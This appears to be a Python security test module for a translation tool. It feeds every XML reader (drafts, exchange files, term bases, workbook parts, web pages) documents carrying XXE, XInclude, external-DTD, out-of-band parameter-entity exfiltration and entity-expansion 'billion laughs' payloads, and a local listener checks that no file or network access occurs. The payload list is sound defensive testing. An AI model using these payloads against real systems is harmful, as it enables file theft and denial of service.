"""Documents that want other documents read: nothing of a file, of an address or of an entity comes in.

Every reader of XML is given every kind of such a document: drafts, exchange files, term bases, each part of a workbook,
and web pages. A file with a secret lies where they point, and a server listens there that counts who comes.
"""

from __future__ import annotations

import http.server
import io
import threading
import time
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager

import site_drafts

from glossary.writing import Row, Section, Table
from promises.figure import Figure, Scale
from translate import readers, xliff
from translate.document import Kind, State
from translate.errors import TarjumanError
from translate.exchange import formats as exchange
from translate.termbase import formats as termbase

SECRET = "the-secret-of-another-file"
SECONDS = 20.0
"""That reading one such document may take on a busy computer."""
Read = Callable[[bytes], object]

DECLARED = (
    '<!DOCTYPE {root} [<!ENTITY x SYSTEM "{file}">]>',
    '<!DOCTYPE {root} [<!ENTITY x SYSTEM "{path}">]>',
    '<!DOCTYPE {root} [<!ENTITY x SYSTEM "{web}">]>',
    '<!DOCTYPE {root} [<!ENTITY x PUBLIC "-//x//y" "{web}">]>',
    '<!DOCTYPE {root} [<!ENTITY % y SYSTEM "{web}"> %y;]>',
    '<!DOCTYPE {root} [<!ENTITY % y SYSTEM "{file}"><!ENTITY % z "<!ENTITY x SYSTEM \'{web}?%y;\'>"> %z;]>',
    '<!DOCTYPE {root} SYSTEM "{web}">',
    '<!DOCTYPE {root} SYSTEM "{file}">',
    '<!DOCTYPE {root} PUBLIC "-//x//y" "{web}">',
    '<!DOCTYPE {root} PUBLIC "-//x//y" "{web}" [<!ENTITY x "expanded">]>',
    '<!DOCTYPE {root} SYSTEM "a>b" [<!ENTITY x SYSTEM "{file}">]>',
    '<!-- x --><!DOCTYPE {root} [<!ENTITY x SYSTEM "{file}">]>',
    '<?x y?><!DOCTYPE {root} [<!ENTITY x SYSTEM "{file}">]>',
    "<!DOCTYPE {root}" + " " * 3000 + '[<!ENTITY x SYSTEM "{file}">]>',
    '<!DOCTYPE {root} [<!ENTITY x "expanded">]>',
    '<!DOCTYPE {root} [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefghi", "bcdefghix", strict=True))
    + "]>",
    '<!DOCTYPE {root} [<!ENTITY a "' + "a" * 50_000 + '"><!ENTITY x "' + "&a;" * 2_000 + '">]>',
    '<!DOCTYPE {root} [<!ENTITY x "&y;"><!ENTITY y "&x;">]>',
    '<!DOCTYPE {root} [<!ATTLIST {root} version CDATA "9">]>',
    '<?xml-stylesheet href="{web}"?>',
    "",
)
"""What may stand before the root; the words of the document then say `&x;`, or read another document in."""
INSIDE = ("&x;", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{path}" parse="text"/>')
ENCODINGS = ("utf-8", "utf-16", "utf-7")


def prove(scale: Scale) -> Iterator[Figure]:
    """All readers."""
    secret = scale.folder / "secret.txt"
    secret.write_text(SECRET, encoding="utf-8")
    tried, slowest = 0, 0.0
    broken: list[str] = []
    with _listener() as (port, asked):
        filled = {"file": secret.as_uri(), "path": str(secret), "web": f"http://127.0.0.1:{port}/x"}
        for name, root, data, read in _readers():
            if "WORDS" not in repr(read(data)):
                broken.append(f"{name}: the sound document is not read")
            for declared in DECLARED[:: scale.of(4, 1)]:
                for inside in INSIDE:
                    for encoding in ENCODINGS[: scale.of(1, 3)]:
                        made = _poisoned(data, declared.format(root=root, **filled), inside.format(**filled), encoding)
                        begun = time.monotonic()
                        what = _came_in(read, made)
                        took = time.monotonic() - begun
                        tried, slowest = tried + 1, max(slowest, took)
                        if what or took > SECONDS:
                            broken.append(
                                f"{name}, {declared[:70]!r}, {inside[:20]!r}, {encoding}: {what or f'{took:.0f} s'}"
                            )
        time.sleep(0.2)
        broken += [f"asked for {path}" for path in asked]
    note = f"nobody asked the network; the slowest took {slowest:.1f} s"
    yield Figure(
        "No document reads another file, another address or an entity of its own in", tried, "documents", broken, note
    )


def _came_in(read: Read, data: bytes) -> str:
    """What of the secret or of an entity is in what was read; empty for none, and where it was refused by name."""
    try:
        found = repr(read(data))
    except TarjumanError as refused:
        found = str(refused)
    for word in (SECRET, "expanded", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"):
        if word in found:
            return f"{word[:30]!r} came in"
    return ""


def _poisoned(data: bytes, declared: str, inside: str, encoding: str) -> bytes:
    """The declaration before the root, and its entity wherever the document says WORDS."""
    if data[:2] == b"PK":
        return _parts(data, declared, inside, encoding)
    text = data.decode("utf-8").replace("WORDS", f"WORDS{inside}")
    head, _, body = text.partition("?>\n") if text.startswith("<?xml") else ("", "", text)
    shown = f'<?xml version="1.0" encoding="{encoding}"?>\n' if head else ""
    return f"{shown}{declared}{body}".encode(encoding)


def _parts(data: bytes, declared: str, inside: str, encoding: str) -> bytes:
    """A workbook with that in each of its parts."""
    packed = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(packed, "w") as new:
        for part in old.infolist():
            content = old.read(part)
            own = declared.replace("DOCTYPE workbook", f"DOCTYPE {_root(content)}")
            new.writestr(part.filename, _poisoned(content, own, inside, encoding))
    return packed.getvalue()


def _root(content: bytes) -> str:
    start = content.find(b"<", content.find(b"?>") + 1 if content.startswith(b"<?") else 0)
    return content[start + 1 :].split(b" ", 1)[0].split(b">", 1)[0].decode()


def _readers() -> Iterator[tuple[str, str, bytes, Read]]:
    """Name, root, a sound document that says WORDS, and what reads it."""
    make = site_drafts.Builder("x")
    make.add(Kind.TITLE, ("الموصل WORDS", site_drafts.target("Mosul WORDS", State.APPROVED)))
    make.add(Kind.PARAGRAPH, ("قال المصدر WORDS", site_drafts.target("The source said WORDS", State.APPROVED)))
    draft = make.draft()
    yield "a draft", "xliff", xliff.dump(draft), lambda data: xliff.parse(data, "x")
    for form in ("xliff12", "xliff", "tmx"):
        data = exchange.FORMATS[form].dump([draft], exchange.Wishes(also_edited=True))
        yield f"import of {form}", form[:5], data, lambda data: exchange.rows(data, "x")
    book = exchange.FORMATS["xlsx"].dump([draft], exchange.Wishes())
    yield "import of a workbook", "workbook", book, lambda data: exchange.rows(data, "x")
    for form, root in (("tbx", "tbx"), ("tbx2", "martif"), ("tmx", "tmx"), ("xlsx", "workbook")):
        dumped = termbase.FORMATS[form].dump(_table())
        yield f"a term base in {form}", root, dumped, lambda data, form=form: termbase.FORMATS[form].read(data, "x")
    page = (
        "<html><body><article><h1>الموصل WORDS</h1><p>قال المصدر WORDS ان القوات في الموصل.</p></article></body></html>"
    )
    for pages in (page, f'<?xml version="1.0"?>\n{page}'):
        yield "a web page", "html", pages.encode(), lambda data: readers.read(None, data, "html", "x")


def _table() -> Table:
    row = Row({"source": "مفارز", "target": "WORDS", "note": "WORDS"}, "x")
    return Table(("source", "target", "note"), sections=(Section(rows=(row,)),))


@contextmanager
def _listener() -> Iterator[tuple[int, list[str]]]:
    """A server that counts who asks it for anything."""
    asked: list[str] = []

    class Counting(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(SECRET.encode())

        def log_message(self, format: str, *args: object) -> None:
            """Says nothing."""

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Counting)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_port, asked
    finally:
        server.shutdown()
        server.server_close()
        thread.join()
